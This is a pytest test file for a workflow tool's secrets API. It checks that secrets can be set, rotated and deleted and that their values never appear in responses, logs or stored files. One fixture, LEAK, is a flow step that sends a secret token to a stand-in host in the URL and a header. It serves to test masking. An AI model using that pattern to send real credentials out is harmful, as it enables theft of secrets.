"""Secrets over the API, and by commands that talk to it: their values go in and never come out."""

import pytest

from flows.errors import StepboxError
from tests.unit.ui.api.conftest import Api
from tests.unit.ui.api.test_remote import remote

VALUE = "s3cr3t-of-the-test"


async def test_a_secret_is_set_listed_changed_and_deleted(api: Api) -> None:
    made = await api.client.put("/api/v1/secrets/hook_key", json={"value": VALUE})
    assert made.status_code == 200
    assert made.json()["old_until"] is None
    again = await api.client.post("/api/v1/secrets/hook_key/rotate", json={"value": f"{VALUE}2", "overlap": "2h"})
    assert again.json()["versions"] == 2
    assert again.json()["old_until"] is not None
    listed = await api.client.get("/api/v1/secrets")
    assert [(one["name"], one["versions"]) for one in listed.json()["items"]] == [("hook_key", 2)]
    for answer in (made, again, listed):
        assert VALUE not in answer.text
    assert await api.call("DELETE", "/secrets/hook_key", params={"old_only": True}) == {"deleted": 1}
    assert await api.call("DELETE", "/secrets/hook_key") == {"deleted": 1}
    assert (await api.call("DELETE", "/secrets/hook_key", 404))["code"] == "unknown_secret"


@pytest.mark.parametrize("body", [{"value": ""}, {"value": 7}, {"value": VALUE, "other": 1}, {"value": "x" * 100_001}])
async def test_what_is_no_secret_is_refused_without_showing_it(api: Api, body: dict[str, object]) -> None:
    answer = await api.client.put("/api/v1/secrets/hook_key", json=body)
    assert answer.status_code == 422
    assert VALUE not in answer.text
    assert "xxxx" not in answer.text


async def test_commands_set_secrets_of_a_service_elsewhere(api: Api) -> None:
    service = remote(api)
    await service.set_secret("hook_key", VALUE)
    assert [one.name for one in await service.secrets()] == ["hook_key"]
    assert await service.delete_secret("hook_key", old_only=False) == 1
    with pytest.raises(StepboxError, match="hook_key"):
        await service.delete_secret("hook_key", old_only=False)
    await service.close()


async def test_the_key_is_rotated_while_the_service_goes_on(api: Api) -> None:
    service = remote(api)
    with pytest.raises(StepboxError, match="no secrets yet"):
        await service.rotate_secret_key(prepare=False)
    await service.set_secret("hook_key", VALUE)
    await service.rotate_secret("hook_key", f"{VALUE}2", overlap=60)
    assert (await service.rotate_secret_key(prepare=True)).resealed is None
    rotation = await service.rotate_secret_key(prepare=False)
    assert rotation.resealed == 2
    assert len(rotation.kept) == 1
    with pytest.raises(StepboxError, match="this value already"):
        await service.rotate_secret("hook_key", f"{VALUE}2", overlap=60)
    await service.close()


LEAK = """\
flow: leak
steps:
  - id: one
    secrets: [token]
    tools: [http.request]
    python: |
      print(secrets.token, secrets.token[::-1])
      try:
          tools.request(url="https://nowhere.invalid/" + secrets.token, headers={"x-key": secrets.token})
      except Exception as error:
          print(error)
      return {secrets.token: secrets.token}
output: ${{ steps.one.result }}
"""


async def test_a_flow_whose_secret_is_not_set_is_refused_with_what_sets_it(api: Api) -> None:
    refused = await api.client.put("/api/v1/flows/leak", json={"text": LEAK})
    assert refused.status_code in {404, 422}
    assert (refused.json()["code"], refused.json()["fix"]) == ("unknown_secret", "set it: stepbox secrets set token")
    assert (await api.call("GET", "/flows"))["items"] == []


async def test_no_answer_shows_what_a_run_was_given(api: Api) -> None:
    await api.call("PUT", "/secrets/token", json={"value": VALUE})
    await api.put(LEAK)
    run = await api.call("POST", "/flows/leak/runs?wait=60", json={})
    assert (run["status"], run["output"]) == ("succeeded", {"•••": "•••"})
    answers = [str(run)]
    for path in ("", "/steps", "/logs", "/tool-calls", "/egress", "/artifacts", "/events"):
        answer = await api.client.get(f"/api/v1/runs/{run['run_id']}{path}")
        assert answer.status_code == 200
        answers.append(answer.text)
    assert "${{ secrets.token }}" in answers[4]
    assert "u2022" in answers[7]
    for text in answers:
        assert VALUE not in text
        assert VALUE[::-1] not in text
    for file in api.home.rglob("*"):
        assert not file.is_file() or VALUE.encode() not in file.read_bytes()
